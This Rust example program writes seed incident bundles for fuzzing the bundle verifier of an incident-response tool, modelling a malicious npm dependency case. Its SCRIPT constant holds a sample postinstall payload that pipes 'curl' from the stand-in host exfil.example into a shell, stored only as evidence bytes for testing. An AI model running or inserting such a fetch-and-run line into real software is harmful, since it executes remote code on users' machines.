//! Writes small valid incident bundles as the seed corpus of the `bundle_verify` target:
//!
//! ```sh
//! cargo run --example bundle_seeds -- corpus/bundle_verify
//! ```
//!
//! Built like any example (stable, no sanitizer). The bundles are made with `write_bundle`,
//! so they verify; the fuzzer mutates them from there.

use std::path::PathBuf;

use ringfence_incident::bundle::{BundleInput, BundleLimits, verify_bundle, write_bundle};
use ringfence_incident::timeline::sha256_hex;
use ringfence_incident::{
    Change, Event, EventRecord, GENESIS, Incident, IncidentId, IncidentType, ObservableKind, Role,
    Severity, Stage, Timestamp,
};
use time::macros::datetime;

const SCRIPT: &[u8] = b"require('child_process').exec('curl -s https://exfil.example/x | sh')\n";
const REPORT: &[u8] = b"# Post-incident review\n\nTokens rotated within 2 hours.\n";

fn main() {
    let dir = PathBuf::from(
        std::env::args()
            .nth(1)
            .unwrap_or_else(|| "corpus/bundle_verify".into()),
    );
    std::fs::create_dir_all(&dir).expect("cannot create the corpus folder");

    // Just opened: manifest, incident and a one-event timeline.
    let opened = vec![Change::Opened {
        title: "Malicious release of left-pad-ng".into(),
        kind: IncidentType::MaliciousDependency,
        severity: Some(Severity::Sev1),
        source: "scan --record".into(),
    }];
    write(&dir.join("opened.tar"), 1, opened, false);

    // Contained, with evidence and a report: every kind of entry a bundle has.
    let contained = vec![
        Change::Opened {
            title: "Malicious release of left-pad-ng".into(),
            kind: IncidentType::MaliciousDependency,
            severity: Some(Severity::Sev2),
            source: "scan --record".into(),
        },
        Change::PackageAffected {
            ecosystem: "npm".into(),
            name: "left-pad-ng".into(),
            version: "2.3.1".into(),
            source: "inspection: malicious".into(),
            detectable_since: None,
            campaign: vec![],
        },
        Change::ParticipantAdded {
            who: "bob".into(),
            role: Role::Responder,
        },
        Change::ObservableAdded {
            kind: ObservableKind::Domain,
            value: "exfil.example".into(),
            source: "inspection".into(),
        },
        Change::EvidenceAdded {
            sha256: sha256_hex(SCRIPT),
            size: SCRIPT.len() as u64,
            name: "postinstall.js".into(),
            description: None,
        },
        Change::TaskAdded {
            id: 1,
            stage: Stage::Containment,
            title: "Rotate CI tokens".into(),
            owner: Some("bob".into()),
            due: None,
        },
        Change::StageAdvanced {
            from: Stage::Identification,
            to: Stage::Containment,
            forced: None,
        },
        Change::TaskDone { id: 1 },
    ];
    write(&dir.join("contained.tar"), 7, contained, true);
}

fn write(path: &std::path::Path, id: i64, changes: Vec<Change>, extras: bool) {
    let start = datetime!(2026-11-28 09:00 UTC);
    let events: Vec<Event> = changes
        .into_iter()
        .enumerate()
        .map(|(i, change)| Event::new(start + time::Duration::minutes(i as i64), "alice", change))
        .collect();
    let chain = IncidentId(id).to_string();
    let mut prev = GENESIS.to_string();
    let timeline: Vec<EventRecord> = events
        .iter()
        .enumerate()
        .map(|(i, event)| {
            let record = EventRecord::seal_event(&chain, i as i64 + 1, event, &prev);
            prev = record.hash.clone();
            record
        })
        .collect();
    let incident = Incident::replay(IncidentId(id), &events).expect("the seed replays");
    let input = BundleInput {
        incident: &incident,
        timeline: &timeline,
        evidence: if extras {
            vec![(sha256_hex(SCRIPT), SCRIPT.to_vec())]
        } else {
            vec![]
        },
        reports: if extras {
            vec![("pir.md".into(), REPORT.to_vec())]
        } else {
            vec![]
        },
        exported_at: Timestamp(datetime!(2026-12-01 10:00 UTC)),
        exported_by: "carol".into(),
    };
    let mut out = Vec::new();
    write_bundle(&mut out, &input).expect("the seed exports");
    let report = verify_bundle(&out[..], &BundleLimits::default()).expect("the seed reads");
    assert!(
        report.ok(),
        "the seed does not verify: {:?}",
        report.problems
    );
    std::fs::write(path, &out).expect("cannot write the seed");
    println!("{}: {} bytes", path.display(), out.len());
}
